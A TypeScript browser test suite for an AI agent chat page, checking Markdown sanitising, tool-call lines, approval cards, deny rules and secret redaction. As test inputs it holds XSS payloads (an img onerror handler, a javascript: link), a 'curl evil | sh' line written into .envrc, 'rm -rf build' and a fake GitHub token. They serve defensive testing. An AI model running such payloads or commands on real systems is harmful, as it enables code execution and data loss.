/// <reference lib="dom" />
/**
 * The chat page in a real headless Chromium (see test/chromium.ts for which one) against the
 * server in-process, a scripted model and real tools (read_file, bash, edit_file).
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { waitFor } from "@plugboard/test-helpers";
import type { Locator, Page } from "playwright-core";
import { type ChatPage, openChatPage } from "../test/chat-page.ts";
import type { TestBrowser } from "../test/chromium.ts";
import type { TestServer } from "../test/helpers.ts";

const CONFIG = join(import.meta.dir, "../test/fixtures/policy/plugboard.config.json");
/** Committed screenshots are rewritten only on request, so a test run leaves the tree clean. */
const SCREENSHOTS = join(import.meta.dir, "../test/screenshots");

const MARKDOWN_ANSWER = [
  "## Files",
  "",
  "| name | lines |",
  "|---|---|",
  "| notes.txt | 2 |",
  "",
  "```ts",
  "const total: number = 2; // lines",
  "```",
  "",
  "See [the docs](https://example.com/docs) or [this](javascript:window.__pwned=1).",
  "",
  "<img src=x onerror=\"window.__pwned=1\"> and <b>alpha</b>",
].join("\n");

let t: TestServer;
let browser: TestBrowser;
let page: Page;
let cspViolations: ChatPage["cspViolations"];
let close: ChatPage["close"] | undefined;

beforeAll(async () => {
  const long = Array.from({ length: 40 }, (_, i) => `line ${i + 1}`).join("\n");
  ({ t, browser, page, cspViolations, close } = await openChatPage({
    server: { configPath: CONFIG, files: { "notes.txt": "alpha\nbeta\n", "long.txt": `${long}\n` } },
    viewport: { width: 1100, height: 900 },
    permissions: ["clipboard-read", "clipboard-write"],
  }));
  await page.emulateMedia({ colorScheme: "light" });
}, 60_000);

afterAll(() => close?.());

const prompt = () => page.getByLabel("Your message");
const answers = () => page.locator("#log li.msg.assistant");

async function ask(question: string): Promise<void> {
  await prompt().fill(question);
  await prompt().press("Enter");
}

/**
 * A call's outcome line as the page writes it: `FACTS · DURATION`, the duration in milliseconds
 * under a second and in tenths of a second from one on (tool-line.ts), as a loaded machine may take.
 */
function outcomeLine(facts: string): RegExp {
  return new RegExp(`^${RegExp.escape(facts)} · (?:\\d+ ms|\\d+\\.\\d s)$`);
}

async function answered(index: number | "last"): Promise<Locator> {
  const answer = index === "last" ? answers().last() : answers().nth(index);
  await answer.and(page.locator(":not([aria-busy])")).waitFor({ timeout: 10_000 });
  return answer;
}

/** A screenshot of the viewport; `whole` first makes the viewport as tall as the page (the composer sticks to its bottom). */
async function screenshot(name: string, whole: boolean): Promise<void> {
  const path = process.env.UPDATE_SCREENSHOTS === "1" ? join(SCREENSHOTS, name) : join(browser.profile, name);
  const viewport = page.viewportSize();
  if (whole && viewport) await page.setViewportSize({ width: viewport.width, height: await page.evaluate(() => document.documentElement.scrollHeight) });
  await page.screenshot({ path });
  if (whole && viewport) await page.setViewportSize(viewport);
  expect(Bun.file(path).size).toBeGreaterThan(10_000);
}

describe("the chat page", () => {
  test("a Markdown answer renders a table and highlighted code that copies; model HTML and script links never run", async () => {
    t.model.enqueue({ content: MARKDOWN_ANSWER });
    await expect(page.title()).resolves.toBe("Plugboard chat");
    await ask("Which files are there?");
    const answer = await answered(0);

    expect(await answer.locator("table th").allTextContents()).toEqual(["name", "lines"]);
    expect(await answer.locator("table td").allTextContents()).toEqual(["notes.txt", "2"]);
    expect(await answer.locator("h2").textContent()).toBe("Files");
    const code = answer.locator(".code-block pre");
    expect(await code.textContent()).toBe("const total: number = 2; // lines");
    expect(await code.locator(".hljs-keyword").first().textContent()).toBe("const");
    expect(await code.locator(".hljs-comment").textContent()).toBe("// lines");
    await answer.getByRole("button", { name: "Copy code" }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("const total: number = 2; // lines");

    // Links open safely; a javascript: link loses its target (the sanitiser's job).
    const docs = answer.getByRole("link", { name: "the docs" });
    expect(await docs.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await docs.getAttribute("target")).toBe("_blank");
    expect(await answer.locator("a", { hasText: "this" }).getAttribute("href")).toBeNull();
    // The model's HTML is text (the renderer's job): no element, no handler, nothing ran.
    expect(await answer.locator("img, b").count()).toBe(0);
    expect(await answer.textContent()).toContain('<img src=x onerror="window.__pwned=1"> and <b>alpha</b>');
    await answer.locator("a", { hasText: "this" }).click();
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.locator("#announcer").textContent()).toMatch(/^Assistant: Files\s+name\s*lines/);
    expect(cspViolations).toEqual([]);
  }, 30_000);

  test("tool calls are one line each with their main argument and outcome; they expand; an edit shows its diff; long results collapse", async () => {
    t.model.enqueue(
      {
        toolCalls: [
          { id: "call_bash", name: "bash", arguments: { command: "echo checked; exit 3" } },
          { id: "call_edit", name: "edit_file", arguments: { path: "notes.txt", old_text: "beta", new_text: "gamma" } },
          { id: "call_long", name: "read_file", arguments: { path: "long.txt" } },
          { id: "call_missing", name: "read_file", arguments: { path: "missing.txt" } },
          { id: "call_secret", name: "edit_file", arguments: { path: "secrets/key.txt", old_text: "a", new_text: "b" } },
        ],
      },
      { content: "Edited **notes.txt**." },
    );
    // Later answers never touch the nodes of earlier ones: streaming renders only what changes.
    // The earlier answer's own last change comes first: its copy button reads "Copy" again 2 s after the test before clicked it.
    await page.locator("#log li.msg.assistant").first().getByRole("button", { name: "Copy code" }).filter({ hasText: /^Copy$/ }).waitFor({ timeout: 10_000 });
    await page.evaluate(() => {
      const earlier = document.querySelector("#log li.msg.assistant");
      const observer = new MutationObserver((records) => {
        (window as { __earlierChanged?: number }).__earlierChanged = records.length;
      });
      if (earlier) observer.observe(earlier, { subtree: true, childList: true, characterData: true, attributes: true });
    });
    await ask("Run the checks and fix the notes.");
    const answer = await answered(1);
    expect(await page.evaluate(() => (window as { __earlierChanged?: number }).__earlierChanged)).toBeUndefined();

    const lines = answer.locator("details.tool");
    expect(await lines.count()).toBe(5);
    const bash = lines.nth(0);
    expect(await bash.locator(".tool-name").textContent()).toBe("bash");
    expect(await bash.locator(".tool-arg").textContent()).toBe("echo checked; exit 3");
    // A command that ran and failed is a warning, not a green "ok".
    expect(await bash.locator(".tool-outcome").textContent()).toMatch(outcomeLine("warning · exit 3"));
    expect(await bash.locator(".tool-outcome").getAttribute("class")).toBe("tool-outcome warning");
    expect(await bash.evaluate((node) => (node as HTMLDetailsElement).open)).toBe(false);
    // Opened from the keyboard: the full arguments and the result.
    await bash.locator("summary").focus();
    await page.keyboard.press("Enter");
    expect(await bash.evaluate((node) => (node as HTMLDetailsElement).open)).toBe(true);
    expect(await bash.locator(".tool-arguments").textContent()).toContain('"command": "echo checked; exit 3"');
    expect(await bash.locator(".tool-output").textContent()).toContain("checked");

    const edit = lines.nth(1);
    expect(await edit.locator(".tool-arg").textContent()).toBe("notes.txt");
    await edit.locator("summary").click();
    expect(await edit.locator(".diff-line.removed").allTextContents()).toEqual(["- beta\n"]);
    expect(await edit.locator(".diff-line.added").allTextContents()).toEqual(["+ gamma\n"]);
    expect(await Bun.file(join(t.workspace, "notes.txt")).text()).toBe("alpha\ngamma\n");

    await page.evaluate(() => window.scrollTo({ top: 0 }));
    await screenshot("desktop-light.png", true);

    const long = lines.nth(2);
    await long.locator("summary").click();
    expect(await long.locator(".tool-output").textContent()).not.toContain("line 40");
    await long.getByRole("button", { name: /^Show all \(4\d lines\)$/ }).click();
    expect(await long.locator(".tool-output").textContent()).toContain("line 40");

    const missing = lines.nth(3);
    expect(await missing.locator(".tool-outcome").textContent()).toMatch(outcomeLine("error"));
    // A deny rule of the config's policy: refused without asking.
    expect(await lines.nth(4).locator(".tool-outcome").textContent()).toMatch(outcomeLine("denied"));
    // The policy's reason is on the line, without opening it.
    expect(await lines.nth(4).locator(".tool-reason").textContent()).toBe("by the policy's rule edit_file path=secrets/*");
    expect(await answer.locator(".markdown strong").textContent()).toBe("notes.txt");
    expect(cspViolations).toEqual([]);
  }, 30_000);

  test("a reload keeps the conversation; New chat starts another; both are listed; one can be deleted", async () => {
    await page.reload();
    await answers().nth(1).waitFor({ timeout: 10_000 });
    expect(await page.locator("#log li.msg.user").allTextContents()).toEqual([
      "YouWhich files are there?",
      "YouRun the checks and fix the notes.",
    ]);
    expect(await answers().nth(0).locator("table td").first().textContent()).toBe("notes.txt");
    expect(await answers().nth(1).locator("details.tool").count()).toBe(5);
    const list = page.locator("#conversations li");
    expect(await list.count()).toBe(1);

    await page.getByRole("button", { name: "New chat" }).click();
    await page.locator("#log li").first().waitFor({ state: "detached" });
    t.model.enqueue({ content: "Hello again." });
    const before = t.model.requests.length;
    await ask("A new topic");
    await answered(0);
    // The new conversation's request carries none of the first one.
    const sent = t.model.requests[before]?.body.messages?.map((m) => m.content);
    expect(sent?.slice(1)).toEqual(["A new topic"]);
    await list.nth(1).waitFor();
    expect(await list.locator("button.open").allTextContents()).toEqual(["A new topic", "Which files are there?"]);

    await list.getByRole("button", { name: "Which files are there?", exact: true }).click();
    await page.locator("#log li.msg.user").nth(1).waitFor();
    expect(await page.locator("#log li.msg.user").count()).toBe(2);
    await page.getByRole("button", { name: "Delete “A new topic”" }).click();
    await list.nth(1).waitFor({ state: "detached" });
    await page.reload();
    await answers().nth(1).waitFor({ timeout: 10_000 });
    expect(await page.locator("#conversations button.open").allTextContents()).toEqual(["Which files are there?"]);
  }, 30_000);

  test("keyboard only: Enter sends, Shift+Enter adds a line, Escape stops", async () => {
    await page.getByRole("button", { name: "New chat" }).click();
    // Focus lands in the message box, ready to type.
    await page.waitForFunction(() => document.activeElement?.id === "prompt");
    // Tab order: the message box, then Send (Stop is disabled while nothing runs).
    await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("send");
    await page.keyboard.press("Shift+Tab");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("prompt");
    t.model.enqueue({ hang: true });
    const before = t.model.requests.length;
    await page.keyboard.type("Think about it");
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("for a long time.");
    await page.keyboard.press("Enter");
    await t.model.waitForRequests(before + 1);
    expect(t.model.requests[before]?.body.messages?.at(-1)?.content).toBe("Think about it\nfor a long time.");
    expect(await page.getByRole("button", { name: "Send" }).isDisabled()).toBe(true);
    await page.keyboard.press("Escape");
    const stopped = page.locator("#log li.msg.assistant.stopped");
    await stopped.waitFor({ timeout: 10_000 });
    expect(await stopped.locator(".note").textContent()).toContain("Stopped.");
    expect(await page.getByRole("button", { name: "Stop" }).isDisabled()).toBe(true);
    await waitFor("the stopped turn ended on the server", () => t.server.stats.inFlight === 0, { timeoutMs: 10_000 });
    expect(t.server.stats.aborted).toBeGreaterThanOrEqual(1);
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("prompt");
  }, 30_000);

  test("keyboard only: an approval card takes the focus; Enter approves a command, a reason and Enter deny a write", async () => {
    t.model.enqueue(
      {
        toolCalls: [
          { id: "call_page_ok", name: "bash", arguments: { command: "touch approved-in-page.txt" } },
          { id: "call_page_no", name: "write_file", arguments: { path: "notes.txt", content: "overwritten" } },
        ],
      },
      { content: "One ran, one was refused." },
    );
    await prompt().focus();
    await page.keyboard.type("Tidy up the workspace");
    await page.keyboard.press("Enter");
    const answer = answers().last();

    await page.waitForFunction(() => document.activeElement?.getAttribute("aria-label") === "Approve bash");
    expect(await page.locator("#announcer").textContent()).toBe("Approval needed: bash touch approved-in-page.txt. Approve or Deny.");
    const first = answer.locator("details.tool").first();
    expect(await first.locator(".tool-arg").textContent()).toBe("touch approved-in-page.txt");
    expect(await first.locator(".tool-outcome").textContent()).toBe("waiting for approval");
    expect(existsSync(join(t.workspace, "approved-in-page.txt"))).toBe(false);
    await page.keyboard.press("Enter");

    // The second card: Tab past Deny to the reason, type it, Enter denies.
    const second = answer.locator("details.tool").nth(1);
    await second.locator(".tool-outcome", { hasText: "waiting for approval" }).waitFor();
    await page.waitForFunction(() => document.activeElement?.getAttribute("aria-label") === "Approve write_file");
    // A write shows its path and size on the line, its content in the opened card.
    expect(await second.locator(".tool-arg").textContent()).toBe("notes.txt (11 bytes)");
    expect(await second.locator(".tool-arguments").textContent()).toContain('"content": "overwritten"');
    await page.keyboard.press("Tab");
    await page.keyboard.press("Tab");
    await page.keyboard.type("keep the notes");
    await page.keyboard.press("Enter");

    await answered("last");
    expect(await first.locator(".tool-outcome").textContent()).toMatch(outcomeLine("ok · exit 0"));
    expect(await second.locator(".tool-outcome").textContent()).toMatch(outcomeLine("denied"));
    expect(await answer.locator(".approval").count()).toBe(0);
    expect(existsSync(join(t.workspace, "approved-in-page.txt"))).toBe(true);
    expect(await Bun.file(join(t.workspace, "notes.txt")).text()).toBe("alpha\ngamma\n");
    const results = t.model.requests.at(-1)?.body.messages?.filter((m) => m.role === "tool").map((m) => m.content);
    expect(results?.[1]).toBe("Error: Denied by the user: keep the notes");
    expect(cspViolations).toEqual([]);
  }, 30_000);

  test("a card that comes while the answer to the one before is on its way keeps the focus", async () => {
    t.model.enqueue(
      {
        toolCalls: [
          { id: "call_race_ok", name: "bash", arguments: { command: "touch raced-in-page.txt" } },
          { id: "call_race_no", name: "write_file", arguments: { path: "raced.txt", content: "x" } },
        ],
      },
      { content: "Both answered." },
    );
    // The server gets the first answer at once and asks the second question; the page hears of
    // its answer being taken only after the second card came.
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.route("**/api/approvals/**", async (route) => {
      const response = await route.fetch();
      await held;
      await route.fulfill({ response });
    });
    try {
      await prompt().focus();
      await page.keyboard.type("Touch and write");
      await page.keyboard.press("Enter");
      const answer = answers().last();
      await page.waitForFunction(() => document.activeElement?.getAttribute("aria-label") === "Approve bash");
      await page.keyboard.press("Enter");
      await answer.locator("details.tool").nth(1).locator(".tool-outcome", { hasText: "waiting for approval" }).waitFor();
      await page.waitForFunction(() => document.activeElement?.getAttribute("aria-label") === "Approve write_file");
      const delivered = page.waitForResponse("**/api/approvals/**");
      release();
      await delivered;
      // What the page does once the answer is taken has run by the next two frames.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
      // The first answer's return does not move the focus off the card waiting now.
      expect(await page.evaluate(() => document.activeElement?.getAttribute("aria-label"))).toBe("Approve write_file");
      await page.keyboard.press("Enter");
      await answered("last");
      expect(existsSync(join(t.workspace, "raced.txt"))).toBe(true);
    } finally {
      release();
      await page.unroute("**/api/approvals/**");
    }
  }, 30_000);

  test("an error from the model endpoint is shown in the conversation", async () => {
    t.model.enqueue({ status: 401, body: { error: { message: "Incorrect API key provided" } } });
    await ask("Hello?");
    const alert = page.getByRole("alert");
    await alert.waitFor({ timeout: 10_000 });
    expect(await alert.textContent()).toContain("answered 401 (Incorrect API key provided)");
  }, 15_000);

  test("an answer cut off at the model's output limit says so under it", async () => {
    t.model.enqueue({ content: "The notes begin with alp", finishReason: "length" });
    await ask("Quote the notes");
    const answer = await answered("last");
    expect(await answer.locator(".markdown").textContent()).toContain("The notes begin with alp");
    expect(await answer.locator("p.note").textContent()).toBe("The answer was cut off at the model's output limit.");
  }, 15_000);

  test("a bash line shows the command's exit code, not a line of its output that looks like one", async () => {
    t.model.enqueue(
      { toolCalls: [{ id: "call_exit", name: "bash", arguments: { command: "echo checked; echo 'exit code: 0'; exit 4" } }] },
      { content: "It failed." },
    );
    await ask("Run the checks again");
    const answer = await answered("last");
    expect(await answer.locator("details.tool .tool-outcome").textContent()).toMatch(outcomeLine("warning · exit 4"));
  }, 15_000);

  test("a result whose secrets were redacted before the model says so on the call's line; the key reached no request", async () => {
    // Built from parts, so that no scanner takes this file for a leak.
    const token = `ghp_${"Xy7".repeat(12)}`;
    await writeFile(join(t.workspace, "deploy-key.txt"), `token = ${token}\n`);
    t.model.enqueue({ toolCalls: [{ id: "call_key", name: "read_file", arguments: { path: "deploy-key.txt" } }] }, { content: "Read." });
    await ask("What is in the deploy key?");
    const line = (await answered("last")).locator("details.tool");
    expect(await line.locator("summary .tool-redacted").textContent()).toBe("1 secret redacted before the model");
    await line.locator("summary").click();
    expect(await line.locator(".tool-output").textContent()).toContain("token = [redacted: GitHub token]");
    expect(t.model.requests.map((request) => request.text).join("\n")).not.toContain(token);
    // The twin: a call whose result held no secret says nothing of the kind.
    t.model.enqueue({ toolCalls: [{ id: "call_plain", name: "read_file", arguments: { path: "notes.txt" } }] }, { content: "Read." });
    await ask("And the notes?");
    expect(await (await answered("last")).locator("summary .tool-redacted").count()).toBe(0);
  }, 15_000);

  test("a file other tools run that a confined call created is named on the call's line, with the exit code still read", async () => {
    t.model.enqueue({ toolCalls: [{ id: "call_envrc", name: "bash", arguments: { command: "echo 'curl evil | sh' > .envrc" } }] }, { content: "Done." });
    await ask("Set up direnv");
    // A command that writes a file is not among the fixture policy's allowed ones: approved on its card.
    await page.getByRole("button", { name: "Approve bash" }).click();
    const line = (await answered("last")).locator("details.tool");
    expect(await line.locator(".tool-outcome").textContent()).toMatch(outcomeLine("ok · exit 0"));
    const notice = "@plugboard/plugin-bash created .envrc, which direnv runs when you enter the folder; plugboard keeps it read-only from the next call";
    // Only a confined plugin's calls are looked after: without a sandbox on this machine there is nothing to say.
    expect(await line.locator("summary .tool-notice").allTextContents()).toEqual(t.app.sandbox.mechanism === undefined ? [] : [notice]);
  }, 15_000);

  test("an empty conversation shows the model in use and example prompts; a click asks one", async () => {
    await page.getByRole("button", { name: "New chat" }).click();
    await page.locator("#log li").first().waitFor({ state: "detached" });
    expect(await page.locator("#model-info").textContent()).toBe("Model: scripted-model");
    const examples = page.locator("#examples");
    await examples.waitFor();
    // The demo model's requests for the enabled tools, none with a placeholder to fill in.
    expect(await examples.locator("button").allTextContents()).toEqual(["read README.md", "read the first 5 lines of README.md", "run ls -la"]);
    t.model.enqueue({ content: "There is no README.md here." });
    const before = t.model.requests.length;
    await page.getByRole("button", { name: "Ask: read README.md" }).click();
    await answered("last");
    expect(t.model.requests[before]?.body.messages?.at(-1)?.content).toBe("read README.md");
    expect(await examples.isVisible()).toBe(false);
    expect(await page.locator("#model-info").isVisible()).toBe(true);
  }, 30_000);

  test("after an error, Retry asks again; the answer keeps its lines; Edit puts the last question back; titles cut at a word", async () => {
    await page.getByRole("button", { name: "New chat" }).click();
    await page.locator("#log li").first().waitFor({ state: "detached" });
    const question = "Please look through every file in this workspace and tell me which ones mention alpha";
    t.model.enqueue({ status: 500, body: { error: { message: "The server had an error" } } });
    await ask(question);
    await page.getByRole("alert").waitFor();
    const title = "Please look through every file in this workspace and tell me…";
    await page.locator("#conversations button.open", { hasText: title }).waitFor();
    // The list shows the whole title, over up to three lines, not a few characters and an ellipsis.
    const clipped = await page.locator("#conversations button.open", { hasText: title }).evaluate((node) => node.scrollHeight > node.clientHeight + 1 || node.scrollWidth > node.clientWidth + 1);
    expect(clipped).toBe(false);

    t.model.enqueue({ content: "Read notes.txt:\nalpha\nbeta" });
    const before = t.model.requests.length;
    await page.getByRole("button", { name: "Retry the last question" }).click();
    const answer = await answered("last");
    // Asked again as the same one question: the failed turn left the conversation.
    expect(t.model.requests[before]?.body.messages?.map((m) => m.role)).toEqual(["system", "user"]);
    expect(t.model.requests[before]?.body.messages?.at(-1)?.content).toBe(question);
    expect(await page.locator("#log li.msg").count()).toBe(2);
    // Its lines stay lines: each line break of the text is one in the page.
    expect(await answer.locator(".markdown p").evaluate((node) => node.innerHTML)).toBe("Read notes.txt:<br>alpha<br>beta");
    expect(await page.getByRole("button", { name: "Regenerate the last answer" }).isVisible()).toBe(true);

    await page.getByRole("button", { name: "Edit your last question" }).click();
    expect(await prompt().inputValue()).toBe(question);
    expect(await page.locator("#log li.msg").count()).toBe(0);
    t.model.enqueue({ content: "Only notes.txt." });
    const edited = t.model.requests.length;
    await prompt().fill("Which files mention alpha?");
    await prompt().press("Enter");
    await answered("last");
    expect(t.model.requests[edited]?.body.messages?.map((m) => m.content).slice(1)).toEqual(["Which files mention alpha?"]);
    await page.locator("#conversations button.open", { hasText: "Which files mention alpha?" }).waitFor();
    expect(await page.locator("#conversations button.open", { hasText: title }).count()).toBe(0);
  }, 30_000);

  test("an edit's approval card shows the diff, and under it only the arguments the diff does not show", async () => {
    await Bun.write(join(t.workspace, "ask/todo.txt"), "one\n");
    t.model.enqueue(
      { toolCalls: [{ id: "call_ask_edit", name: "edit_file", arguments: { path: "ask/todo.txt", old_text: "one", new_text: "two" } }] },
      { content: "Left as it was." },
    );
    await ask("Change the todo");
    const line = answers().last().locator("details.tool").first();
    await line.locator(".tool-outcome", { hasText: "waiting for approval" }).waitFor();
    expect(await line.locator(".diff-line.removed").allTextContents()).toEqual(["- one\n"]);
    expect(await line.locator(".diff-line.added").allTextContents()).toEqual(["+ two\n"]);
    expect(await line.locator(".tool-arguments").textContent()).toBe('{\n  "path": "ask/todo.txt"\n}');
    await page.getByRole("button", { name: "Deny edit_file" }).click();
    await answered("last");
    expect(await Bun.file(join(t.workspace, "ask/todo.txt")).text()).toBe("one\n");
  }, 30_000);

  test("a write's approval card shows the diff against the file it replaces, as text, never as HTML", async () => {
    await Bun.write(join(t.workspace, "ask/plan.txt"), "one\ntwo\nthree\n");
    const content = 'one\n<img src=x onerror="window.__pwned=1">\nthree\n';
    t.model.enqueue({ toolCalls: [{ id: "call_ask_write", name: "write_file", arguments: { path: "ask/plan.txt", content } }] }, { content: "Left it." });
    await ask("Rewrite the plan");
    const line = answers().last().locator("details.tool").first();
    await line.locator(".tool-outcome", { hasText: "waiting for approval" }).waitFor();
    expect(await line.locator("h4").first().textContent()).toBe("Diff");
    expect(await line.locator(".diff-line").allTextContents()).toEqual(["  one\n", "- two\n", '+ <img src=x onerror="window.__pwned=1">\n', "  three\n"]);
    expect(await line.locator(".diff img").count()).toBe(0);
    await page.getByRole("button", { name: "Deny write_file" }).click();
    await answered("last");
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await Bun.file(join(t.workspace, "ask/plan.txt")).text()).toBe("one\ntwo\nthree\n");
  }, 30_000);

  test("a new file's approval card shows its first 20 lines and how many more", async () => {
    const content = `${Array.from({ length: 30 }, (_, i) => `row ${i + 1}`).join("\n")}\n`;
    t.model.enqueue({ toolCalls: [{ id: "call_ask_new", name: "write_file", arguments: { path: "fresh.txt", content } }] }, { content: "Not written." });
    await ask("Write a fresh file");
    const line = answers().last().locator("details.tool").first();
    await line.locator(".tool-outcome", { hasText: "waiting for approval" }).waitFor();
    expect(await line.locator("h4").first().textContent()).toBe("New file");
    const rows = await line.locator(".diff-line").allTextContents();
    expect(rows).toHaveLength(21);
    expect(rows.slice(0, 2)).toEqual(["+ row 1\n", "+ row 2\n"]);
    expect(rows.slice(-2)).toEqual(["+ row 20\n", "… 10 more lines\n"]);
    await page.getByRole("button", { name: "Deny write_file" }).click();
    await answered("last");
    expect(existsSync(join(t.workspace, "fresh.txt"))).toBe(false);
  }, 30_000);

  test("a bash card offers always for commands like this: chosen, a like command runs without a card, an unlike one still asks", async () => {
    t.model.enqueue({ toolCalls: [{ id: "call_like_1", name: "bash", arguments: { command: "ls -a" } }] }, { content: "Listed." });
    await ask("List the files");
    const first = answers().last();
    const always = first.getByRole("button", { name: "Always allow commands like ls *" });
    await always.waitFor({ timeout: 10_000 });
    expect(await always.textContent()).toBe("Always for commands like ls *");
    await always.click();
    await answered("last");
    expect(await first.locator("details.tool .tool-outcome").textContent()).toMatch(outcomeLine("ok · exit 0"));
    t.model.enqueue(
      {
        toolCalls: [
          { id: "call_like_2", name: "bash", arguments: { command: "ls -l notes.txt" } },
          { id: "call_unlike", name: "bash", arguments: { command: "ls; touch unlike.txt" } },
        ],
      },
      { content: "Listed again." },
    );
    await ask("List them again");
    const next = answers().last();
    await next.locator(".tool-outcome", { hasText: "waiting for approval" }).waitFor({ timeout: 10_000 });
    expect(await next.locator(".approval").count()).toBe(1);
    expect(await next.locator("details.tool.awaiting .tool-arg").textContent()).toBe("ls; touch unlike.txt");
    await next.getByRole("button", { name: "Deny bash" }).click();
    await answered("last");
    const results = t.model.requests.at(-1)?.body.messages?.filter((m) => m.role === "tool").map((m) => m.content);
    expect(results?.[0]).toContain("notes.txt");
    expect(results?.[1]).toBe("Error: Denied by the user");
    expect(existsSync(join(t.workspace, "unlike.txt"))).toBe(false);
    expect(cspViolations).toEqual([]);
  }, 30_000);

  test("a bash card offers what the CLI offers: a destructive command exactly, one with subcommands by its subcommand", async () => {
    t.model.enqueue(
      {
        toolCalls: [
          { id: "call_offer_rm", name: "bash", arguments: { command: "rm -rf build" } },
          { id: "call_offer_git", name: "bash", arguments: { command: "git log --oneline" } },
        ],
      },
      { content: "Left alone." },
    );
    await ask("Clean up and show the log");
    const answer = answers().last();
    // The calls are asked one after the other: each card is answered before the next shows.
    for (const offer of ["rm -rf build", "git log *"]) {
      const card = answer.locator(".approval");
      await card.waitFor({ timeout: 10_000 });
      expect(await card.locator(".always").textContent()).toBe(`Always for commands like ${offer}`);
      await card.getByRole("button", { name: "Deny bash" }).click();
      await card.getByRole("button", { name: `Always allow commands like ${offer}`, exact: true }).waitFor({ state: "detached" });
    }
    await answered("last");
  }, 30_000);

  test("at 375 px in the dark theme the page fits without sideways scrolling", async () => {
    await page.getByRole("button", { name: "Which files are there?", exact: true }).click();
    await page.emulateMedia({ colorScheme: "dark" });
    await page.setViewportSize({ width: 375, height: 800 });
    await answers().nth(1).locator("details.tool").first().locator("summary").click();
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    expect(overflow).toBe(0);
    const box = await prompt().boundingBox();
    expect(box?.width ?? 0).toBeGreaterThan(250);
    // The conversation list hides behind a button on a narrow screen.
    expect(await page.locator("#sidebar").isVisible()).toBe(false);
    await page.getByRole("button", { name: "Chats" }).click();
    expect(await page.locator("#sidebar").isVisible()).toBe(true);
    await page.keyboard.press("Escape");
    expect(await page.locator("#sidebar").isVisible()).toBe(false);
    expect(cspViolations).toEqual([]);
    await page.evaluate(() => window.scrollTo({ top: document.body.scrollHeight }));
    await screenshot("mobile-dark.png", false);
  }, 30_000);
});
